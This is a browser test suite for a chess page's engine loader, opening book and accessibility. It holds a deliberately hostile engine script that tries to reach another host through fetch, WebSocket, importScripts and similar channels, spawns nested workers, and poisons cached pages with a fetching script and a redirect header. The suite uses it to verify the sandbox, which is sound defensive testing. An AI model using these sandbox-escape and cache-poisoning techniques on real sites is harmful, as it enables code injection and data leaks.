// The engine and the opening book of the board page, with a scripted engine. tests/engines tests the same with
// Stockfish.
import { createServer } from "node:http"
import { test as base } from "@playwright/test"
import { site as folder } from "../../scripts/paths.mjs"
import { answer } from "../../scripts/serve.mjs"
import { expectNoViolation } from "./axe.js"
import { errorsOf } from "./drivers.js"
import { button, expect, moves, newGame, once, openSetting, status, turn, typeMove } from "./fixtures.js"

/** The book is opened from the engine's dialog. */
async function openBook(page) {
  await openSetting(page, "Engine…")
  await button(dialog(page), "Opening book…").click()
}

const test = base.extend({
  /** Errors that the console may report. The request for the site's own engine may fail. */
  expected: async ({ browserName: _ }, use) => use([/status of 404/]),
  page: async ({ page, expected }, use) => {
    const errors = errorsOf(page)
    await page.goto("./")
    await expect(page.locator("#acts")).not.toHaveAttribute("inert")
    await use(page)
    expect(errors.filter((text) => !expected.some((pattern) => pattern.test(text)))).toEqual([])
    await page.unrouteAll({ behavior: "wait" })
  },
})

/** The lines found in some positions, by the moves since the start, from the point of view of the side to move. */
const found = {
  "": ["cp 31 pv e2e4 e7e5 g1f3 b8c6", "cp 12 pv d2d4 d7d5", "cp -4 pv g1f3"],
  e2e4: ["cp 250 pv e7e5 g1f3", "cp 0 pv c7c5", "mate -3 pv f7f6"],
  "f2f3 e7e5 g2g4": ["mate 1 pv d8h4", "cp 20 pv d8g5", "cp 10 pv d7d5"],
}
/** The moves that the engine plays. */
const replies = { "": "d2d4", e2e4: "e7e5", "e2e4 e7e5 g1f3": "b8c6", d2d4: "g8f6" }

/** The script of an engine that finds these lines and searches until it is stopped. It replies at once when it plays. */
const scripted = (more = "") => `
const found = ${JSON.stringify(found)}, replies = ${JSON.stringify(replies)}
let played = ""
let isSearching = false
let lines = 1
const best = () => { isSearching = false; postMessage("bestmove " + (found[played]?.[0].split(" ")[3] ?? "0000")) }
onmessage = ({ data }) => {
  const [word] = data.split(" ")
  if (data === "uci")
    for (const line of ["id name Scripted", "id author a test", "option name MultiPV type spin default 1 min 1 max 5",
      "option name UCI_LimitStrength type check default false", "option name UCI_Elo type spin default 1320 min 1320 max 3190", "uciok"])
      postMessage(line)
  if (word === "isready") postMessage("readyok")
  if (/MultiPV/.test(data)) lines = Number(data.split(" ").at(-1))
  if (word === "position") played = data.split(" moves ")[1] ?? ""
  ${more}
  if (word === "go" && / 1000$/.test(data)) postMessage("bestmove " + replies[played])
  else if (word === "go") {
    isSearching = true
    ;(found[played] ?? []).slice(0, lines).forEach((line, index) => postMessage("info depth 7 multipv " + (index + 1) + " score " + line))
  }
  if (word === "stop" && isSearching) best()
}
`

const file = (name, text, mimeType = "text/javascript") => ({ name, mimeType, buffer: Buffer.from(text) })
const scriptFile = file("scripted.js", scripted())

const dialog = (page) => page.getByRole("dialog", { name: "Engine" })
const panel = (page) => page.getByRole("region", { name: "Scripted" })
const lines = (page) => panel(page).getByRole("list", { name: "Best lines" }).getByRole("listitem")
const bar = (page) => page.getByRole("meter", { name: "Evaluation" })

/** Opens the dialog and chooses an engine's files. */
async function bring(page, files) {
  await openSetting(page, "Engine…")
  const chooser = dialog(page).getByLabel("Engine files")
  // Waits until the page knows whether the site has an engine.
  await expect(chooser).toBeVisible()
  await chooser.setInputFiles(files)
}

/** Loads the scripted engine; `set` changes settings in its dialog before the dialog is closed. */
async function started(page, set = async () => {}) {
  await bring(page, [scriptFile])
  await expect(dialog(page).getByText("Scripted, by a test")).toBeVisible()
  await set(dialog(page))
  await button(dialog(page), "Close").click()
}

/** The frame of the engine. */
const frameOf = (page) => page.frames().find((frame) => frame.parentFrame())

/** Records what the page sends to the current engine and to later ones. */
async function listenIn(page) {
  const listen = () => {
    if (origin !== "null") return
    globalThis.said = []
    addEventListener("message", ({ data }) => data.type === "say" && globalThis.said.push(data.text))
  }
  await page.addInitScript(listen)
  await frameOf(page)?.evaluate(listen)
}
const said = (page) => frameOf(page).evaluate(() => globalThis.said)

test("nothing of engine and book is loaded before it is asked for", once, async ({ page }) => {
  const requested = []
  page.on("request", (request) => requested.push(new URL(request.url()).pathname))
  await page.reload()
  await expect(page.locator("#acts")).not.toHaveAttribute("inert")
  await page.waitForLoadState("networkidle")
  const before = [...requested]
  expect(before).toContain("/module/openings.js")
  expect(before.filter((path) => /uci|polyglot|engine|helpers|book/.test(path))).toEqual([])
  await openSetting(page, "Engine…")
  await expect(dialog(page).getByLabel("Engine files")).toBeFocused()
  expect(requested).toContain("/module/uci.js")
  expect(requested.filter((path) => path.endsWith("/engine/manifest.json"))).toHaveLength(1)
  expect(requested).not.toContain("/module/polyglot.js")
  await button(dialog(page), "Opening book…").click()
  await expect(page.getByLabel("Polyglot book")).toBeFocused()
  expect(requested).toContain("/module/polyglot.js")
})

test.describe("an engine of the user", () => {
  test("evaluates the position on the board", async ({ page }) => {
    await started(page)
    await expect(lines(page)).toHaveText(["+0.31.\u00a0e4 e5 2.\u00a0Nf3 Nc6", "+0.11.\u00a0d4 d5", "0.01.\u00a0Nf3"])
    await expect(panel(page).getByText("depth 7")).toBeVisible()
    await expect(bar(page)).toHaveAttribute("aria-valuetext", "White is better by 0.3")
    await expect(page.locator("chess-board")).toHaveAttribute("arrows", "Be2e4")
    // The lines are outside any live region; the best one is announced on request.
    expect(
      await lines(page)
        .first()
        .evaluate((line) => line.closest("[aria-live]").ariaLive),
    ).toBe("off")
    await panel(page).getByRole("button", { name: "Say the best line" }).focus()
    await page.keyboard.press("Enter")
    await expect(status(page)).toHaveText("White is better by 0.3. pawn to e4, pawn to e5, knight to f3, knight to c6.")
    // Evaluations of other positions are from White's point of view, too.
    await typeMove(page, "e4")
    await expect(lines(page)).toHaveText(["−2.51...\u00a0e5 2.\u00a0Nf3", "0.01...\u00a0c5", "+#31...\u00a0f6"])
    await expect(bar(page)).toHaveAttribute("aria-valuetext", "Black is better by 2.5")
    await button(page, "First").click()
    for (const move of ["f3", "e5", "g4"]) await typeMove(page, move)
    await expect(lines(page)).toHaveText(["−#12...\u00a0Qh4#", "−0.22...\u00a0Qg5", "−0.12...\u00a0d5"])
    await expect(bar(page)).toHaveAttribute("aria-valuetext", "Black mates in 1")
    await expect(bar(page)).toHaveAttribute("aria-valuenow", "0.00")
    await typeMove(page, "Qh4")
    await expect(bar(page)).toHaveAttribute("aria-valuetext", "Black wins")
    await expect(lines(page)).toHaveCount(0)
    await expect(page.locator("chess-board")).not.toHaveAttribute("arrows")
    await panel(page).getByRole("switch", { name: "Analysis" }).uncheck()
    await expect(bar(page)).toBeHidden()
  })

  test("is kept until it is removed", once, async ({ page }) => {
    await started(page, async (dialog) => {
      await dialog.getByLabel("Lines").selectOption("2")
      await dialog.getByLabel("Best move as an arrow").uncheck()
    })
    await expect(lines(page)).toHaveCount(2)
    await expect(page.locator("chess-board")).not.toHaveAttribute("arrows")
    await page.reload()
    await expect(page.locator("#acts")).not.toHaveAttribute("inert")
    await expect(panel(page)).toBeHidden()
    await openSetting(page, "Engine…")
    await expect(dialog(page).getByText("Scripted, by a test")).toBeVisible()
    await expect(dialog(page).getByLabel("Lines")).toHaveValue("2")
    await button(dialog(page), "Switch off").click()
    await expect(panel(page)).toBeHidden()
    await expect(bar(page)).toBeHidden()
    await openSetting(page, "Engine…")
    await button(dialog(page), "Remove the engine").click()
    await expect(dialog(page)).toBeHidden()
    await openSetting(page, "Engine…")
    await expect(dialog(page).getByLabel("Engine files")).toBeVisible()
    expect(await page.evaluate(async () => (await caches.keys()).filter((name) => /engine/.test(name)))).toEqual([])
  })

  test("plays one side at the chosen strength", once, async ({ page }) => {
    await listenIn(page)
    await started(page, async (dialog) => {
      await expect(dialog.getByRole("radio", { name: "No", exact: true })).toBeFocused()
      await dialog.getByRole("slider", { name: "Strength: 1500 Elo" }).fill("2000")
      await dialog.getByRole("radio", { name: "As White" }).check()
    })
    // Analysis of the opponent's position would give away the engine's move.
    await expect(panel(page).getByRole("switch", { name: "Analysis" })).not.toBeChecked()
    await typeMove(page, "e4")
    await expect(moves(page)).toHaveText(["e4", "e5"])
    expect(await said(page)).toContain("setoption name UCI_Elo value 2000")
    await expect(page.getByRole("group", { name: "Black: Scripted" })).toBeVisible()
    await typeMove(page, "d5")
    await expect(status(page)).toHaveText(/d5/)
    await typeMove(page, "Nf3")
    await expect(moves(page)).toHaveText(["e4", "e5", "Nf3", "Nc6"])
    await button(page, "Take back").click()
    await expect(moves(page)).toHaveText(["e4", "e5"])
    // The engine does not reply while the user looks at earlier moves.
    await button(page, "Back").click()
    await expect(turn(page, "Black")).toBeVisible()
    await expect(moves(page)).toHaveText(["e4", "e5"])
    await newGame(page)
    await typeMove(page, "d4")
    await expect(moves(page)).toHaveText(["d4", "Nf6"])
    // The engine now plays White.
    await newGame(page)
    await panel(page).getByRole("button", { name: "Engine…" }).click()
    await dialog(page).getByRole("radio", { name: "As Black" }).check()
    await button(dialog(page), "Close").click()
    await expect(moves(page)).toHaveText(["d4"])
    expect(await page.evaluate(() => document.querySelector("chess-board").orientation)).toBe("black")
    await expect(page.locator("#seat-top")).toHaveAccessibleName("White: Scripted")
    await expect(page.locator("#seat-bottom")).toHaveAccessibleName("Black")
    await panel(page).getByRole("button", { name: "Engine…" }).click()
    await button(dialog(page), "Switch off").click()
    await expect(page.locator("#move-list")).toBeFocused()
    await typeMove(page, "d5")
    await typeMove(page, "c4")
    await expect(moves(page)).toHaveText(["d4", "d5", "c4"])
  })

  test("flips names and clocks with the board", once, async ({ page }) => {
    await started(page)
    await typeMove(page, "e4")
    // After 1. e4 it is the user's turn, so the engine does not move, which would redraw the page by itself.
    await panel(page).getByRole("button", { name: "Engine…" }).click()
    await dialog(page).getByRole("radio", { name: "As Black" }).check()
    await expect(page.locator("#seat-top")).toHaveAccessibleName("White")
    await expect(page.locator("#seat-bottom")).toHaveAccessibleName("Black")
  })

  test("waits with its move while a comment is written", once, async ({ page }) => {
    const waiting = `self.reply = () => postMessage("bestmove " + replies[played])`
    const patient = scripted().replace(`postMessage("bestmove " + replies[played])`, waiting)
    await bring(page, [file("patient.js", patient)])
    await dialog(page).getByRole("radio", { name: "As White" }).check()
    await button(dialog(page), "Close").click()
    await listenIn(page)
    await typeMove(page, "e4")
    await expect.poll(async () => (await said(page)).at(-1)).toMatch(/^go .* 1000$/)
    await page.locator("#annotate").click()
    const annotations = page.getByRole("region", { name: "Notes on 1. e4" })
    await annotations.getByRole("textbox", { name: "Comment", exact: true }).fill("best by test")
    const replied = page.evaluate(
      () =>
        new Promise((resolve) =>
          addEventListener("message", ({ data }) => /^bestmove/.test(data.texts) && setTimeout(resolve)),
        ),
    )
    for (const worker of page.workers()) await worker.evaluate(() => globalThis.reply?.())
    await replied
    await expect(moves(page)).toHaveText(["e4"])
    await button(annotations, "Close").click()
    await expect(moves(page)).toHaveText(["e4", "e5"])
    await expect(page.locator("#move-list")).toHaveText(/e4.*best by test.*e5/s)
  })

  test("is offered by level if it does not support Elo", once, async ({ page }) => {
    await listenIn(page)
    const older = scripted()
      .replace(/"option name UCI_LimitStrength[^"]*", /, "")
      .replace(/UCI_Elo [^"]*/, "Skill Level type spin default 20 min 0 max 20")
    await bring(page, [file("older.js", older)])
    await dialog(page).getByRole("slider", { name: "Strength: level 5" }).fill("3")
    await expect(dialog(page).getByRole("slider", { name: "Strength: level 3" })).toBeVisible()
    await dialog(page).getByRole("radio", { name: "As Black" }).check()
    await button(dialog(page), "Close").click()
    await expect(moves(page)).toHaveText(["d4"])
    expect(await said(page)).toContain("setoption name Skill Level value 3")
  })

  test("reports that a kept engine cannot start any more", once, async ({ page, expected }) => {
    expected.push(/worn out/)
    await started(page)
    await page.evaluate(async () => {
      const name = (await caches.keys()).find((name) => /engine/.test(name))
      const headers = { "content-type": "text/javascript" }
      await (await caches.open(name)).put(
        "own-engine/scripted.js",
        new Response("throw Error('worn out')", { headers }),
      )
    })
    await page.reload()
    await expect(page.locator("#acts")).not.toHaveAttribute("inert")
    await openSetting(page, "Engine…")
    await expect(dialog(page).getByRole("status")).toContainText(/^scripted\.js is no engine .*worn out/)
    await dialog(page).getByLabel("Engine files").setInputFiles([scriptFile])
    await expect(dialog(page).getByText("Scripted, by a test")).toBeVisible()
  })

  test("stops while the page is hidden", once, async ({ page }) => {
    await listenIn(page)
    await started(page)
    await expect(lines(page)).toHaveCount(3)
    const hide = (hidden) =>
      page.evaluate((hidden) => {
        Object.defineProperty(document, "hidden", { value: hidden, configurable: true })
        document.dispatchEvent(new Event("visibilitychange"))
      }, hidden)
    await hide(true)
    await expect.poll(async () => (await said(page)).at(-1)).toBe("stop")
    await typeMove(page, "e4")
    await expect(moves(page)).toHaveText(["e4"])
    expect((await said(page)).at(-1)).toBe("stop")
    await hide(false)
    await expect(lines(page)).toHaveText(["−2.51...\u00a0e5 2.\u00a0Nf3", "0.01...\u00a0c5", "+#31...\u00a0f6"])
  })

  for (const [what, files, sentence] of [
    [
      "files without a script",
      [file("stockfish.exe", "MZ")],
      "None of these files is the script of an engine: stockfish.exe.",
    ],
    [
      "a script that is not an engine",
      [file("page.js", "document.title = 1")],
      /page\.js is no engine for browsers, or broken: .*document/,
    ],
    [
      "a file that is missing",
      [file("half.js", "fetch('half.wasm')")],
      "half.js needs the file half.wasm, too. Choose all files of the engine together.",
    ],
    ["an engine with threads", [file("many.js", "new SharedArrayBuffer(8)")], "many.js needs several threads"],
    ["a script for threads", [file("many.js", ""), file("many.worker.js", "")], "many.js needs several threads"],
    ["an engine that starts workers", [file("many.js", "new Worker('many.js')")], "many.js needs several threads"],
    [
      "a missing file that XMLHttpRequest asks for",
      [file("half.js", "const r = new XMLHttpRequest(); r.open('GET', './nets/half.nnue?v=1'); r.send()")],
      "half.js needs the file half.nnue, too.",
    ],
    [
      "more than one script",
      [file("many.js", "importScripts('rest.js')"), file("rest-of-it.js", "")],
      "many.js loads other scripts, which it cannot do here",
    ],
    [
      "a flood",
      [file("loud.js", "for (;;) postMessage('info string loud')")],
      "The engine was stopped, because it said",
    ],
    [
      "a flood of messages that are not text",
      [file("loud.js", "for (;;) postMessage({ info: ['loud'] })")],
      "The engine was stopped, because it said",
    ],
  ]) {
    test(`reports ${what}`, once, async ({ page, expected }) => {
      // Firefox reports these errors without the file name.
      expected.push(/(document|SharedArrayBuffer) is not defined/, /not possible here/, /is missing/)
      await bring(page, files)
      await expect(dialog(page).getByRole("status")).toContainText(sentence)
      // Another engine can be chosen at once, and files that do not start are not kept.
      await dialog(page).getByLabel("Engine files").setInputFiles([scriptFile])
      await expect(dialog(page).getByText("Scripted, by a test")).toBeVisible()
      const kept = await page.evaluate(async () => {
        const name = (await caches.keys()).find((name) => /engine/.test(name))
        return (await (await caches.open(name)).keys()).map(({ url }) => url.split("/").at(-1))
      })
      expect(kept).toEqual(["scripted.js"])
    })
  }

  test("that dies is reported and two people play on", once, async ({ page, expected }) => {
    expected.push(/out of memory/)
    await bring(page, [file("dying.js", scripted(`if (word === "go") throw new Error("out of memory")`))])
    await expect(dialog(page).getByRole("status")).toContainText(/^The engine has stopped working\..*out of memory/)
    await button(dialog(page), "Close").click()
    await expect(panel(page)).toBeHidden()
    await typeMove(page, "e4")
    await typeMove(page, "e5")
    await expect(moves(page)).toHaveText(["e4", "e5"])
  })

  test("reports a full storage and keeps nothing", once, async ({ page, context }) => {
    const session = await context.newCDPSession(page)
    const { usage } = await session.send("Storage.getUsageAndQuota", { origin: new URL(page.url()).origin })
    await session.send("Storage.overrideQuotaForOrigin", {
      origin: new URL(page.url()).origin,
      quotaSize: usage + 2 ** 20,
    })
    await bring(page, [scriptFile, file("big.wasm", "x".repeat(3 << 20), "application/wasm")])
    await expect(dialog(page).getByRole("status")).toHaveText(
      "The browser has no room for these files (4 MB), so none was kept.",
    )
    expect(await page.evaluate(async () => (await caches.keys()).filter((name) => /engine/.test(name)))).toEqual([])
  })

  test("reaches its own files in every usual way", async ({ page, expected }) => {
    // The policy reports the request for the wrong address.
    expected.push(/Content.Security.Policy/i)
    // An empty WebAssembly module.
    const wasm = Buffer.from([0, 97, 115, 109, 1, 0, 0, 0])
    const reader = `
const get = (address) => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest()
  request.open("GET", address)
  request.responseType = "arraybuffer"
  request.onload = () => resolve(request.response.byteLength)
  request.onerror = reject
  request.send()
})
const now = (address) => {
  const request = new XMLHttpRequest()
  request.open("GET", address, false)
  request.send()
  return request.responseText
}
const beside = self.location.href.replace(/[^/]*$/, "")
onmessage = async ({ data }) => {
  if (data !== "uci") return
  const found = await Promise.all([
    fetch("a net.nnue").then((response) => response.text()),
    fetch(new Request(beside + "a%20net.nnue")).then((response) => response.text()),
    get("a net.nnue"),
    now(beside + "a net.nnue?v=2"),
    WebAssembly.instantiateStreaming(fetch(self.location.pathname.replace(/js$/, "wasm"))).then(({ module }) => module instanceof WebAssembly.Module),
    WebAssembly.compileStreaming(fetch(new URL("reader.wasm", self.location))).then(String),
    self.location.pathname.split("/").at(-1),
  ])
  postMessage("id name " + found.join(" | "))
  postMessage("uciok")
}`
    await bring(page, [
      file("reader.js", reader),
      file("a net.nnue", "a net", ""),
      { ...file("reader.wasm", ""), buffer: wasm },
    ])
    await expect(dialog(page).getByRole("status")).toHaveText(
      "a net | a net | 5 | a net | true | [object WebAssembly.Module] | reader.js",
    )
  })

  test("that floods the page is stopped", once, async ({ page }) => {
    const flood = `if (word === "go") for (let n = 1; ; n++) postMessage("info depth " + n + " score cp 1 pv e2e4")`
    await bring(page, [file("loud.js", scripted(flood))])
    await expect(dialog(page).getByRole("status")).toHaveText(/^The engine was stopped, because it said more/)
    await button(dialog(page), "Close").click()
    await expect(panel(page)).toBeHidden()
    await typeMove(page, "e4")
    await expect(moves(page)).toHaveText(["e4"])
  })

  test("axe finds no violations in the engine's panel", once, async ({ page }) => {
    for (const [width, height] of [
      [320, 640],
      [1280, 800],
    ]) {
      await page.setViewportSize({ width, height })
      if (width === 320) {
        await started(page)
        await typeMove(page, "e4")
      }
      await expect(lines(page).first()).toBeVisible()
      await expectNoViolation(page)
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
      await panel(page).getByRole("button", { name: "Engine…" }).click()
      await expectNoViolation(page)
      await button(dialog(page), "Close").click()
    }
  })
})

test.describe("a hostile engine", () => {
  test.use({ serviceWorkers: "allow" })

  /** The engine writes pages, scripts and headers wherever it can and contacts the other host in every way open to a worker. */
  const hostile = (other) => `
const other = "${other}"
const call = async (from) => {
  const tries = {
    fetch: () => fetch(other + from, { mode: "no-cors" }),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      Object.assign(request, { onload: resolve, onerror: reject }).open("GET", other + from)
      request.send()
    }),
    events: () => new Promise((resolve, reject) => Object.assign(new EventSource(other + from), { onopen: resolve, onerror: reject })),
    socket: () => new Promise((resolve, reject) => Object.assign(new WebSocket(other.replace("http", "ws") + from), { onopen: resolve, onerror: reject })),
    script: () => importScripts(other + from),
    module: () => import(other + from),
  }
  return Promise.all(Object.values(tries).map(async (attempt) => attempt()).map((done) => done.then(() => "done", () => "refused")))
}
const nested = [
  () => new Worker("nested.js"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('" + other + "nested', { mode: 'no-cors' })"]))),
  () => new Worker("data:text/javascript,fetch('" + other + "data')"),
]
const poison = async () => {
  const answer = (text, type) => new Response(text, { headers: { "content-type": type, refresh: "0; url=" + other + "refresh" } })
  for (const name of await caches.keys()) {
    const cache = await caches.open(name)
    for (const request of await cache.keys()) await cache.put(request, answer("<title>POISONED</title><script>fetch('" + other + "page')</script>", "text/html"))
  }
}
const done = Promise.all([
  call("start").then((answers) => { if (answers.includes("done")) return "DONE"; throw answers }),
  ...nested.map(async (attempt) => attempt()),
  poison(),
  new Promise((resolve, reject) => Object.assign(indexedDB.open("evil"), { onsuccess: resolve, onerror: reject })),
  navigator.storage?.getDirectory?.(),
].map((attempt) => Promise.resolve(attempt).then(String, () => "refused")))
onmessage = async ({ data }) => {
  const answers = await done
  if (data === "uci") ["id name Hostile " + self.origin + " " + answers.join(), "uciok"].forEach((line) => postMessage(line))
  if (data === "isready") postMessage("readyok")
  if (data.startsWith("go")) postMessage("bestmove e2e4")
  if (data.startsWith("go")) call("later")
}`

  /** Serves the site and another host; both record their requests. */
  const servers = async () => {
    const calls = []
    const other = createServer((request, response) => {
      calls.push(request.url)
      response.writeHead(200, { "access-control-allow-origin": "*" }).end()
    })
    other.on("upgrade", ({ url }, socket) => (calls.push(url), socket.destroy()))
    await new Promise((resolve) => other.listen(0, "127.0.0.1", resolve))
    const site = createServer((request, response) => {
      // Without this, compressing the whole site for its service worker would take longer than the test.
      request.headers["accept-encoding"] = ""
      return answer(folder, request, response)
    })
    await new Promise((resolve) => site.listen(0, "127.0.0.1", resolve))
    const url = `http://127.0.0.1:${site.address().port}/`
    const close = (server) => {
      server.close()
      server.closeAllConnections()
    }
    return { calls, other, site, url, close }
  }

  test("cannot reach other hosts or change a page", async ({ page, expected }) => {
    expected.push(
      /Content.Security.Policy|page’s settings blocked|can’t establish a connection/i,
      /Failed to load|NetworkError|ERR_|Load failed/,
      /not possible here/,
      /Trusted/,
    )
    const { calls, other, site, url, close } = await servers()
    await page.goto(url)
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}))
    const kept = () =>
      page.evaluate(async () => {
        const name = (await caches.keys()).find((name) => /^chess-arbiter http/.test(name))
        const cache = await caches.open(name)
        const texts = (await cache.keys()).map(async (request) => (await cache.match(request)).text())
        return (await Promise.all(texts)).join()
      })
    const script = file("hostile.js", hostile(`http://127.0.0.1:${other.address().port}/`))
    const started = /^Hostile null ((refused|undefined),?)+$/
    await bring(page, [script])
    await expect(dialog(page).getByRole("status")).toHaveText(started)
    await button(dialog(page), "Switch off").click()
    const isWhole = async () => {
      await page.goto("about:blank")
      await page.goto(url)
      await expect(page.locator("#acts")).not.toHaveAttribute("inert")
      await expect(page).toHaveTitle(/chess/i)
      await typeMove(page, "e4")
    }
    await isWhole()
    await openSetting(page, "Engine…")
    await expect(dialog(page).getByRole("status")).toHaveText(started)
    await dialog(page).getByRole("radio", { name: "As White" }).check()
    close(site)
    await isWhole()
    await openSetting(page, "Engine…")
    await expect(dialog(page).getByRole("status")).toHaveText(started)
    await button(dialog(page), "Remove the engine").click()
    await expect(dialog(page)).toBeHidden()
    await isWhole()
    expect(await kept()).not.toContain("POISONED")
    expect(calls).toEqual([])
    close(other)
  })

  test("is not served from foreign entries of the cache", async ({ page, expected }) => {
    expected.push(/Failed to load|NetworkError|ERR_|Load failed|intercepted the request/)
    const { calls, other, site, url, close } = await servers()
    const address = `http://127.0.0.1:${other.address().port}/`
    await page.goto(url)
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}))
    await page.evaluate(async (address) => {
      const name = (await caches.keys()).find((name) => /^chess-arbiter http/.test(name))
      const cache = await caches.open(name)
      const headers = {
        "content-type": "text/html",
        refresh: `0; url=${address}`,
        "content-security-policy": `report-uri ${address}`,
      }
      await cache.put("rules.html", new Response("<title>POISONED</title>", { headers }))
      await cache.put("no-such-page.html", new Response("<title>POISONED</title>", { headers }))
      await cache.put("own-engine/page.html", new Response("<title>POISONED</title>", { headers }))
      // The right contents with wrong headers.
      for (const path of ["editor.html", "icon.svg"])
        await cache.put(path, new Response(await (await fetch(path)).text(), { headers }))
    }, address)
    // From now on the service worker serves the page.
    await page.reload()
    await expect(page.locator("#acts")).not.toHaveAttribute("inert")
    close(site)
    const answers = await page.evaluate(async () => {
      const get = (path) =>
        fetch(path).then(
          ({ headers }) =>
            [...headers]
              .filter(([name]) => name !== "content-length")
              .map(([, value]) => value)
              .join(),
          () => "none",
        )
      return Promise.all(
        ["rules.html", "no-such-page.html", "own-engine/page.html", "constructor", "editor.html", "icon.svg"].map(get),
      )
    })
    expect(answers).toEqual([
      "none",
      "none",
      "none",
      "none",
      "text/html; charset=utf-8,nosniff",
      "image/svg+xml,nosniff",
    ])
    await page.goto(`${url}editor.html`)
    await expect(page.getByRole("main")).toBeVisible()
    expect(calls).toEqual([])
    close(other)
  })
})

test.describe("an engine of the site", () => {
  /** The manifest that the site's owner has put beside the page. @param {string} manifest */
  async function owned(page, manifest) {
    await page.route("**/engine/*", (route) => {
      const isScript = route.request().url().endsWith(".js")
      return route.fulfill(
        isScript
          ? { contentType: "text/javascript", body: scripted() }
          : { contentType: "application/json", body: manifest },
      )
    })
  }

  test("is offered by its name", once, async ({ page }) => {
    await owned(page, '{ "name": "Scripted of the club", "script": "scripted.js" }')
    await openSetting(page, "Engine…")
    await button(dialog(page), "Use Scripted of the club").click()
    await expect(dialog(page).getByText("Scripted, by a test")).toBeVisible()
    // The site's engine cannot be removed.
    await expect(button(dialog(page), "Remove the engine")).toBeHidden()
    await button(dialog(page), "Close").click()
    await expect(lines(page)).toHaveCount(3)
  })

  test("is started once even if its dialog is closed meanwhile", once, async ({ page }) => {
    await owned(page, '{ "name": "Scripted of the club", "script": "scripted.js" }')
    let release = () => {}
    const released = new Promise((resolve) => (release = resolve))
    await page.route("**/engine/scripted.js", async (route) => {
      await released
      await route.fallback()
    })
    const asked = page.waitForRequest("**/engine/scripted.js")
    await openSetting(page, "Engine…")
    await button(dialog(page), "Use Scripted of the club").click()
    await asked
    await button(dialog(page), "Close").click()
    await openSetting(page, "Engine…")
    await expect(dialog(page).getByRole("status")).toHaveText("The engine is loading…")
    await expect(button(dialog(page), "Use Scripted of the club")).toBeHidden()
    release()
    await expect(dialog(page).getByText("Scripted, by a test")).toBeVisible()
    expect(page.workers()).toHaveLength(1)
  })

  test("outside of its folder or without a name is refused", once, async ({ page }) => {
    for (const manifest of ['{ "name": "Elsewhere", "script": "../sw.js" }', '{ "script": "scripted.js" }', "<p>"]) {
      await owned(page, manifest)
      await openSetting(page, "Engine…")
      await expect(dialog(page).getByRole("status")).toHaveText(/^The engine of this site cannot be used/)
      await button(dialog(page), "Close").click()
    }
  })
})

test.describe("a book", () => {
  // Keys that Polyglot's format publishes: of the start, after 1. e4, and after 1. e4 d5.
  const entries = [
    ["0756b94461c50fb0", "e4e5", 1],
    ["463b96181691fc9c", "d2d4", 25],
    ["463b96181691fc9c", "e2e4", 75],
    ["823c9b50fd114196", "d7d5", 8],
  ]
  const square = (name) => name.charCodeAt(0) - 97 + 8 * (Number(name[1]) - 1)
  const bytesOf = (entries) =>
    Buffer.concat(
      entries.map(([key, move, weight]) => {
        const bytes = Buffer.alloc(16)
        bytes.write(key, "hex")
        bytes.writeUInt16BE((square(move.slice(0, 2)) << 6) | square(move.slice(2)), 8)
        bytes.writeUInt16BE(weight, 10)
        return bytes
      }),
    )
  const bookFile = (entries) => ({ name: "club.bin", mimeType: "application/octet-stream", buffer: bytesOf(entries) })
  const book = (page) => page.getByRole("region", { name: "Book" })
  const entriesOf = (page) => book(page).getByRole("list", { name: "Moves of the book" }).getByRole("button")

  test("shows and plays its moves by weight", once, async ({ page }) => {
    await openBook(page)
    await book(page).getByLabel("Polyglot book").setInputFiles(bookFile(entries))
    await expect(book(page).getByText("club.bin · 4 entries")).toBeVisible()
    await expect(entriesOf(page)).toHaveText(["e475 · 75%", "d425 · 25%"])
    await expect(entriesOf(page).first()).toHaveAccessibleName("e4, weight 75, 75%")
    await expect(status(page)).toHaveText("The book has 2 moves here.")
    await entriesOf(page).first().press("Enter")
    await expect(moves(page)).toHaveText(["e4"])
    // The focus goes on to the next move.
    await expect(entriesOf(page)).toHaveText(["d58 · 100%"])
    await expect(entriesOf(page)).toBeFocused()
    await page.keyboard.press("Enter")
    await expect(entriesOf(page)).toHaveText(["e51 · 100%"])
    await page.keyboard.press("Enter")
    await expect(book(page).getByText("The book has no move here.")).toBeVisible()
    await expectNoViolation(page)
    // The book stays open for the next game and loaded after it was closed.
    await newGame(page)
    await expect(entriesOf(page)).toHaveCount(2)
    await button(book(page), "Close").click()
    await expect(book(page)).toBeHidden()
    await openBook(page)
    await expect(entriesOf(page).first()).toBeFocused()
  })

  test("reports a file that is not a book until another is chosen", once, async ({ page }) => {
    await openBook(page)
    const chooser = book(page).getByLabel("Polyglot book")
    for (const wrong of [bookFile([...entries].reverse()), bookFile([])]) {
      await chooser.setInputFiles(wrong)
      await expect(book(page).getByText("club.bin is no Polyglot book.")).toBeVisible()
    }
    await chooser.setInputFiles(bookFile(entries))
    await expect(entriesOf(page)).toHaveCount(2)
    await expect(book(page).getByText("is no Polyglot book")).toBeHidden()
  })
})
